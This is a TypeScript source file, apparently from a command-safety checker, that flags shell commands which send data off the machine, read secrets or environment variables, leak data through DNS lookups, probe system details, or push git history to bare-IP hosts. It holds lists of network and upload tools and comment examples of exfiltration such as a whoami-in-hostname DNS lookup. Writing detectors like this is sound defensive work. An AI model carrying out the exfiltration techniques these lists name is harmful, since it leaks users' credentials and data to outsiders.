import type { Command } from './command.ts'
import { commandName } from './command-name.ts'
import { readPath } from '../paths/normalise-path.ts'
import { sensitivityOf } from '../paths/sensitive-paths.ts'
import { isExfiltrationHost } from '../network/exfiltration-hosts.ts'
import { sensitiveReads } from './file-readers.ts'
import type { Pipeline, Redirect, SimpleCommand } from './model.ts'
import { severityOfSecretTool } from './secret-tools.ts'

/** Programs that send something whatever they are asked. */
const senders: ReadonlySet<string> = new Set([
  'curl',
  'wget',
  'http',
  'xh',
  'iwr',
  'irm',
  'invoke-restmethod',
  'invoke-webrequest',
  'nc',
  'ncat',
  'netcat',
  'telnet',
  'socat',
  'ftp',
  'tftp',
  'sftp',
  'mail',
  'mailx',
  'sendmail',
  'mutt',
  'swaks',
  'sendemail',
  'lftp',
  'ncftpput',
  'curlftpfs',
  'smbclient',
  'whois',
  'finger',
  'rlogin',
  'nc.traditional',
  'nc.openbsd',
  'drill',
  'kdig',
  'logger',
  'wormhole',
  'croc',
  'ffsend',
  'magic-wormhole',
  'dig',
  'nslookup',
  'host',
  'ping',
  'ssh',
])

/** Programs that can send; besides them only a redirection into a socket does. */
export const uploaders: ReadonlySet<string> = new Set([
  ...senders,
  'scp',
  'rsync',
  'rclone',
  'gsutil',
  'aws',
  'openssl',
  'restic',
  'ab',
  'cancel',
  'git',
  'gh',
  's3cmd',
  'mc',
  'azcopy',
  'az',
  'gcloud',
  'busybox',
  'python',
])

/** Does the command send something to another machine? */
export function isUpload({ name, args, redirects }: Command): boolean {
  if (redirects.some(intoSocket) || senders.has(name)) return true
  switch (name) {
    case 'scp':
    case 'rsync':
      return /^[^/:]{1,200}:/.test(args.at(-1) ?? '') && !/^[a-z]:\\/i.test(args.at(-1) ?? '')
    case 'rclone':
    case 'gsutil':
    case 'aws':
      return /\b(cp|copy|sync|mv)\b/.test(args.slice(0, 4).join(' '))
    case 'openssl':
      return args[0] === 's_client'
    case 'restic':
      return args.includes('backup')
    case 'ab':
      return args.includes('-p') || args.includes('-u')
    case 'cancel':
      return args.includes('-h')
    case 'gh':
      return args[0] === 'gist' && args[1] === 'create'
    case 's3cmd':
    case 'mc':
    case 'azcopy':
      return /^(?:put|cp|copy|sync|mirror|pipe)$/.test(args[0] ?? '')
    case 'az':
    case 'gcloud':
      return /storage (?:blob upload|cp|rsync|copy)/.test(args.slice(0, 4).join(' '))
    default:
      return false
  }
}

function intoSocket({ operator, target }: Redirect): boolean {
  return operator.startsWith('>') && /^\/dev\/(tcp|udp)\//.test(target.text)
}

/** Does the command read, hold or substitute a secret? */
export function carriesSecret(command: Command): boolean {
  if (isEnvironment(command.name, command.args)) return true
  if (fileArguments(command)) return true
  return (
    command.words.some(({ substitutions }) => substitutions.some(hasSecret)) ||
    command.group.some(hasSecret)
  )
}

function isEnvironment(name: string, args: readonly string[]): boolean {
  return (
    ((name === 'env' || name === 'printenv' || name === 'set') && args.length === 0) ||
    (name === 'export' && args.includes('-p'))
  )
}

const keyOptions = new Set(['-i', '--cert', '--key', '--cacert', '-E', '--netrc-file', '-K'])

/** A key that a client signs in with does not leave. */
function withoutKeys(command: Command): Command {
  if (!command.args.some((arg) => keyOptions.has(arg))) return command
  const args = command.args.filter((_, index) => !keyOptions.has(command.args[index - 1] ?? ''))
  return { ...command, args }
}

/** Clients that take their orders as one text, and those that no reader's table knows. */
function sendsByOrder({ name, args }: Command): boolean {
  if (
    !/^(?:smbclient|lftp|ftp|tftp|ncftpput|s3cmd|mc|azcopy|restic|ab|croc|wormhole|swaks|gh)$/.test(
      name,
    )
  )
    return false
  return args.some((arg) =>
    arg
      .slice(0, 1024)
      .split(/[\s;]/)
      .some((word) => word.includes('/') && sensitivityOf(readPath(word).normal) !== null),
  )
}

function fileArguments(command: Command): boolean {
  if (command.name === 'ssh' || command.name === 'sftp') return false
  return (
    sendsByOrder(command) ||
    sensitiveReads(withoutKeys(command)).length > 0 ||
    (severityOfSecretTool(command) !== null && command.name !== 'ssh')
  )
}

function hasSecret(pipeline: Pipeline): boolean {
  return pipeline.commands.some(simpleHasSecret)
}

function simpleHasSecret(simple: SimpleCommand): boolean {
  const args = simple.argv.slice(1).map(({ text }) => text)
  const name = commandName(simple.argv[0]?.text ?? '')
  if (isEnvironment(name, args)) return true
  const command: Command = {
    ...simple,
    name,
    word: name,
    args,
    words: simple.argv.slice(1),
    elevated: false,
    fed: false,
    through: [],
  }
  return sensitiveReads(command).length > 0 || simple.group.some(hasSecret)
}

const nameTools: ReadonlySet<string> = new Set([
  'dig',
  'nslookup',
  'host',
  'drill',
  'kdig',
  'ping',
  'ping6',
  'getent',
  'resolvectl',
])

/** `dig $(whoami).drop.example`: what a command printed becomes a label of a name that someone else resolves. */
export function leaksByName({ name, words }: Command): boolean {
  if (!nameTools.has(name)) return false
  return words.some(
    ({ text, substitutions }) =>
      (substitutions.length > 0 || /\uE000.{0,80}\uE000/.test(text)) && endsInDomain(text),
  )
}

/** After what is only known at run time comes a domain of two labels or more. */
function endsInDomain(text: string): boolean {
  const labels = text
    .slice(text.lastIndexOf('\uE000') + 1, 400)
    .replace(/\.$/, '')
    .split('.')
  return labels.length > 2 && labels.every((label) => /^[a-z0-9-]{0,63}$/i.test(label))
}

const facts: ReadonlySet<string> = new Set([
  'whoami',
  'id',
  'uname',
  'hostname',
  'ifconfig',
  'ps',
  'netstat',
  'ss',
  'history',
  'last',
  'w',
  'lsof',
  'arp',
])

/** Does the command tell about the machine and its users? */
export function tellsAboutMachine({ name, args }: Command): boolean {
  if (facts.has(name)) return true
  return (
    name === 'cat' &&
    args.some((arg) =>
      /^\/etc\/(?:passwd|group|hosts|resolv\.conf|crontab|issue|os-release)$|^\/proc\/(?:version|cpuinfo|self\/)/.test(
        arg,
      ),
    )
  )
}

/** A host that says nothing about whose it is: a bare public address, or a place that takes in anything. */
export function isNamelessHost(text: string): boolean {
  const host =
    /^(?:[a-z]{2,6}:\/\/)?(?:[^@/\s]{1,80}@)?(\d{1,3}(?:\.\d{1,3}){3})(?:[:/?#]|$)/i.exec(
      text.slice(0, 300),
    )?.[1]
  if (host === undefined) return isExfiltrationHost(text)
  return !/^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.)/.test(host)
}

/** A web server over a folder that holds the system or a whole home. */
export function servesWide({ name, args }: Command): boolean {
  const at = args.findIndex((arg) => /^(?:-h|-d|--directory|-t|--dir|--root)$/.test(arg))
  const folder = args[at + 1] ?? ''
  if (at < 0 || !/^(?:\/|~|\/(?:etc|root|home|var|Users)(?:\/[\w.-]{1,60})?)\/?$/.test(folder))
    return false
  return (
    name === 'httpd' ||
    (name === 'python' && args.includes('http.server')) ||
    (name === 'php' && args.includes('-S')) ||
    /^(?:http-server|serve|caddy|twistd|darkhttpd|busybox)$/.test(name)
  )
}

/** `git remote add x https://203.0.113.9/r.git`, `git push http://…`: the history goes to a machine without a name. */
export function pushesToStranger({ name, args }: Command): boolean {
  if (name !== 'git') return false
  const verb = args.find((arg) => !arg.startsWith('-'))
  return (
    (verb === 'push' ||
      (verb === 'remote' && /^(?:add|set-url)$/.test(args[args.indexOf('remote') + 1] ?? ''))) &&
    args.some(isNamelessHost)
  )
}

/** A loop or assignment that holds a secret in a variable, for a later command to send. */
export function keepsSecret(command: Command): boolean {
  const holders =
    command.name === 'for' ? command.words : command.assignments.map(({ value }) => value)
  return holders.some(({ substitutions }) => substitutions.some(hasSecret))
}
